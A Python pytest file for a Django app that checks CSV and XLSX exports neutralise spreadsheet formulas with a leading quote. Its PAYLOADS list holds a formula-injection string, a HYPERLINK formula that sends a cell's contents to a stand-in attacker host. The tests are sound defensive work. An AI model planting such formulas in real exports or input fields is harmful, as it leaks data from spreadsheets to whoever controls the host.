"""No export holds a live formula: text that a spreadsheet would run is neutralised with a
leading single quote (OWASP), in CSV and XLSX, on list pages, reports and the admin's export."""

import csv
import datetime
import io

import openpyxl
import pytest
import tablib
from django import forms

from tests.rounds.factories import (
    AgendaItemFactory,
    CaseOfConcernFactory,
    DialogueFactory,
    RoundFactory,
    TopicFactory,
)

pytestmark = pytest.mark.django_db

# Each character a spreadsheet reads as the start of a formula, in front of a payload.
PAYLOADS = [
    f'{start}HYPERLINK("http://attacker.example/?"&A1,"Click")'
    for start in ("=", "+", "-", "@", "\t", "\r")
]


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]


def xlsx_cells(content: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_neutralised_csv(content: bytes, payload: str) -> None:
    cells = csv_cells(content)
    assert "'" + payload in cells
    assert payload not in cells


def assert_neutralised_xlsx(content: bytes, payload: str) -> None:
    cells = xlsx_cells(content)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    # XML reads a carriage return back as a line feed.
    texts = [cell.value.replace("\r", "\n") for cell in cells if isinstance(cell.value, str)]
    assert ("'" + payload).replace("\r", "\n") in texts
    assert payload.replace("\r", "\n") not in texts


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_list_export_neutralises_formulas(analyst_client, payload):
    RoundFactory(cities=payload)
    response = analyst_client.get("/rounds/?format=csv")
    assert_neutralised_csv(response.content, payload)
    response = analyst_client.get("/rounds/?format=xlsx")
    assert_neutralised_xlsx(response.content, payload)


def admin_round_export(admin_client, kind: str):
    """The admin's export of rounds as `kind` ("csv", "xlsx"), with the fields it offers."""
    url = "/admin/rounds/round/export/"
    form = admin_client.get(url).context["form"]
    fields = {
        name: "on"
        for name, field in form.fields.items()
        if isinstance(field, forms.BooleanField) and field.initial
    }
    formats = {str(label).lower(): value for value, label in form.fields["format"].choices}
    return admin_client.post(url, {"format": formats[kind], "resource": 0, **fields})


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_admin_export_neutralises_formulas(admin_client, payload):
    RoundFactory(cities=payload)
    for kind, check in (("csv", assert_neutralised_csv), ("xlsx", assert_neutralised_xlsx)):
        response = admin_round_export(admin_client, kind)
        assert response.status_code == 200
        check(response.content, payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_report_csvs_neutralise_formulas(analyst_client, payload):
    topic = TopicFactory(name=payload)
    for dialogue in (DialogueFactory(), DialogueFactory()):  # raised in two the same year
        AgendaItemFactory(
            round=RoundFactory(dialogue=dialogue, start_date=datetime.date(2002, 5, 1)),
            topics=[topic],
        )
    assert_neutralised_csv(analyst_client.get("/topics/continuity/?format=csv").content, payload)
    assert_neutralised_csv(analyst_client.get("/topics/overlap/?format=csv").content, payload)


def test_the_cases_csv_neutralises_formulas(client, make_user):
    client.force_login(make_user("cora", "case_officer", clearance="protected_b"))
    CaseOfConcernFactory(name="@SUM(1+1)")
    assert_neutralised_csv(client.get("/cases/?format=csv").content, "@SUM(1+1)")


def test_a_number_stays_a_number_and_a_text_that_looks_like_one_is_prefixed():
    data = tablib.Dataset([-1, "-1", 2.5, "plain"], headers=["number", "text", "float", "word"])
    cells = xlsx_cells(data.export("xlsx"))[4:]
    assert [cell.value for cell in cells] == [-1, "'-1", 2.5, "plain"]
    assert [cell.data_type for cell in cells] == ["n", "s", "n", "s"]
    assert csv_cells(data.export("csv").encode())[4:] == ["-1", "'-1", "2.5", "plain"]


def test_the_admin_export_offers_its_columns_by_name_in_the_readers_language(admin_client):
    """django-import-export offered each column as its heading title-cased ("Start Date"), in
    English whatever the language; it is now the field's name in the reader's language, with
    the spreadsheet's heading beside it. The headings themselves are unchanged."""
    for prefix, start, marking in (
        ("", "Start date (start_date)", "Security marking (security_marking)"),
        ("/fr", "Date de début (start_date)", "Désignation de sécurité (security_marking)"),
    ):
        form = admin_client.get(f"{prefix}/admin/rounds/round/export/").context["form"]
        labels = [
            str(field.label)
            for field in form.fields.values()
            if isinstance(field, forms.BooleanField)
        ]
        assert start in labels and marking in labels, labels
        assert "Start Date" not in labels
    RoundFactory(cities="Ottawa")
    response = admin_round_export(admin_client, "csv")
    header = next(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert "start_date" in header and "security_marking" in header
